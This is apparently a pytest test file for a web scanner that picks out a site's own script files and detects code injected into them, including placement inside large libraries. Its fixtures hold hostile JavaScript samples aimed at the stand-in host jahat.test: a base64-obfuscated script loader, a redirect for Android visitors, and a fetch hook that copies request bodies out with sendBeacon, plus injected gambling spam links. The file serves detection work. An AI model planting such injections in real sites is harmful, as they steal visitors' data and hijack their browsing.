"""Script files of a site's own: which are chosen, and what of a long one is read."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cyberscan.parse.matter import files as matter_files
from cyberscan.parse.matter.files import LONGEST, MOST, SHORT, is_library
from cyberscan.parse.matter.links import File

PAGE = "https://www.contoh.go.test/"
URL = f"{PAGE}js/situs.js"
ADDED = {
    "a loader in base64": (
        (
            "(function(){var s=document.createElement('script');s.src=atob("
            "'aHR0cHM6Ly9qYWhhdC50ZXN0L2EuanM=');document.head.appendChild(s)})();"
        ),
        {"atob", "disguised", "loader"},
    ),
    "a move of telephones": (
        "if(/Android/.test(navigator.userAgent)){location.href='https://jahat.test/m'}",
        {"conditional", "location", "user-agent"},
    ),
    "copies of what is sent": (
        (
            "(function(w){var f=w.fetch;w.fetch=function(a,b){navigator.sendBeacon("
            "'https://jahat.test/',b.body);return f.apply(this,arguments)}})(window);"
        ),
        {"blind", "sends", "taps"},
    ),
}
# Of the shape of a library: functions in a function, a licence, quotes in a comment.
LIBRARY = "/*! Pustaka v1 | (c) it's free */\n(function (w) {\n  'use strict';\n" + "".join(
    f"  w.f{n} = function (a, b) {{ if (a) {{ return [a, b, '{n})']; }} return {{}}; }};\n"
    for n in range(400)
)
LIBRARY += "})(window);"
MINIFIED = " ".join(LIBRARY.split("\n")[1:])


def traits(source: str) -> set[str]:
    found = matter_files.read(source, URL, PAGE, "contoh.go.test")
    return {trait for code in found.codes for trait in code.traits}


def url(path: str) -> File:
    return File(f"{PAGE}{path}", "script")


def test_a_library_yields_nothing() -> None:
    for source in (LIBRARY, MINIFIED):
        assert len(source) > 2 * SHORT
        assert matter_files.read(source, URL, PAGE, "contoh.go.test").codes == ()


@pytest.mark.parametrize("library", [LIBRARY, MINIFIED], ids=["lines", "minified"])
@pytest.mark.parametrize("where", ["before", "before, same line", "after", "after, same line"])
@pytest.mark.parametrize("name", ADDED)
def test_what_is_added_to_a_library_is_read(name: str, where: str, library: str) -> None:
    source, expected = ADDED[name]
    between = "" if "same" in where else "\n"
    pieces = (source, library) if "before" in where else (library + ";", source)
    assert expected <= traits(between.join(pieces))


@pytest.mark.parametrize("name", ADDED)
def test_a_short_file_is_read_as_a_whole(name: str) -> None:
    source, expected = ADDED[name]
    assert expected <= traits(f"$(function () {{ $('.menu').slick(); }});\n{source}")


def test_what_a_library_does_in_many_places_is_no_act() -> None:
    scattered = LIBRARY.replace("w.f50 =", "w.ua = navigator.userAgent; w.f50 =")
    scattered = scattered.replace("w.f90 =", "w.go = function () { location.href = w.u }; w.f90 =")
    assert traits(scattered) == set()


def test_what_it_says_stands_at_its_address() -> None:
    source = "document.body.innerHTML += '<a href=\"https://judi.test/\">Slot gacor</a>';"
    found = matter_files.read(source, URL, PAGE, "contoh.go.test")
    assert ("script", URL, "judi.test") in {(p.place, p.selector, p.host) for p in found.passages}
    moved = matter_files.read("location = 'https://jahat.test/'", URL, PAGE, "contoh.go.test")
    assert [(p.kind, p.selector, p.host) for p in moved.pointers] == [
        ("location", URL, "jahat.test")
    ]


def test_addresses_are_those_of_the_page() -> None:
    found = matter_files.read("location.href = 'masuk'", URL, PAGE, "contoh.go.test")
    assert [p.url for p in found.pointers] == [f"{PAGE}masuk"]


@pytest.mark.parametrize(
    ("files", "first"),
    [
        # A worker before all else.
        ([url("js/a.js"), File(f"{PAGE}sw.js", "worker")], "sw.js"),
        # In a folder for other things.
        ([url("uploads/2026/a.js"), url("js/b.js")], "uploads/2026/a.js"),
        ([url(".cache/a.js"), url("js/b.js")], ".cache/a.js"),
        # With a random name.
        ([url("js/8f3a91c2.js"), url("js/menu.js")], "js/8f3a91c2.js"),
        ([url("js/x9k2qw7.js"), url("js/menu.js")], "js/x9k2qw7.js"),
        # The last one.
        ([url("js/menu.js"), url("js/situs.js")], "js/situs.js"),
        # Libraries last of all.
        ([url("js/menu.js"), url("js/jquery.min.js")], "js/menu.js"),
        ([url("js/menu.js"), url("uploads/jquery-3.7.1.min.js")], "js/menu.js"),
        ([url("js/menu.js"), url("wp-includes/js/wp-embed.min.js")], "js/menu.js"),
    ],
)
def test_the_unusual_ones_come_first(files: list[File], first: str) -> None:
    assert matter_files.choose(files)[0].url == f"{PAGE}{first}"


def test_at_most_three_are_chosen() -> None:
    assert len(matter_files.choose([url(f"js/a{n}.js") for n in range(9)])) == MOST
    assert matter_files.choose([]) == ()


@pytest.mark.parametrize(
    ("stem", "known"),
    [
        ("jquery", True), ("jquery-3.7.1.min", True), ("jquery.min", True),
        ("jquery.fancybox.min", True), ("bootstrap.bundle.min", True), ("bootstrap5.min", True),
        ("owl.carousel.min", True), ("slick.min", True), ("wow.min", True), ("aos", True),
        ("vue.global.prod", True), ("swiper-bundle.min", True), ("select2.full.min", True),
        ("main", False), ("app", False), ("situs", False), ("menu-utama", False), ("script", False),
        ("main.5b2e77a1", False), ("sw-check", False), ("aplikasi", False), ("", False),
    ],
)  # fmt: skip
def test_libraries_are_known_by_their_names(stem: str, known: bool) -> None:
    assert is_library(stem) is known


@given(st.text(max_size=3_000) | st.text(alphabet="(){}[];\n'\"/*a", max_size=3_000))
def test_no_text_makes_it_raise(source: str) -> None:
    for text in (source, source * (SHORT // max(1, len(source)) + 2)):
        found = matter_files.read(text[: 4 * SHORT], URL, PAGE, "contoh.go.test")
        assert len(found.codes) <= 23


@pytest.mark.parametrize("unit", ["(", ")", ";", "\n", "};", "({", "w.fetch=function(a,b){"])
def test_a_megabyte_of_anything_comes_to_an_end(unit: str) -> None:
    source = unit * (1_048_576 // len(unit))
    assert matter_files.read(source, URL, PAGE, "contoh.go.test").truncated is (
        len(source) > LONGEST
    )
